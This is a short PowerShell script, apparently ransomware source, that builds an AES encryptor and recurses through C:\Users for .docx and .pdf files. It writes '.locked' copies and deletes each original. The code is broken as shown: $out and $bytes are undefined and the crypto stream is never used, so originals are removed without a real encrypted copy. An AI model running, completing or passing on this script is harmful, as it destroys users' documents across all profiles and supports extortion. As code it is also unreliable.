$aes = [System.Security.Cryptography.Aes]::Create()
$enc = $aes.CreateEncryptor()
Get-ChildItem C:\Users -Recurse -Include *.docx,*.pdf | ForEach-Object {
  $cs = New-Object Security.Cryptography.CryptoStream($out, $enc, 'Write')
  [IO.File]::WriteAllBytes($_.FullName + '.locked', $bytes)
  Remove-Item $_.FullName
}
